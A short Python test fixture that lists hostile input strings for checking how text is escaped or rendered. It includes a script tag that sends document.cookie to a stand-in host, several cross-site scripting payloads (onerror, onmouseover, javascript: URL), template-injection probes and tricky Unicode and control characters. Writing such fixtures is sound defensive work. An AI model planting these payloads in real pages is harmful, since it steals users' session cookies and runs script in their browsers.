"""Text that tries to be more than text."""

SCRIPT = "<script>fetch('https://example.invalid/'+document.cookie)</script>"
HOSTILE = [
    SCRIPT,
    "</style></title></svg><img src=x onerror=alert(1)>",
    "\"' onmouseover='alert(1)' x=\"",
    "{{ 7 * 7 }} {% raw %} ]]> --> <!-- &amp; &#60;",
    "מלך הארץ \u202e dlrow \u2066olleh",
    "😀👩‍👩‍👧 naïve \u0301\u0301\u0301",
    "\x00\x07\x1b[31m\x7f\x9b \ud800 \uffff",
    "$\\frac{1}{2}$ javascript:alert(1) url(#x) var(--ink) #010203",
    "x" * 5000,
]
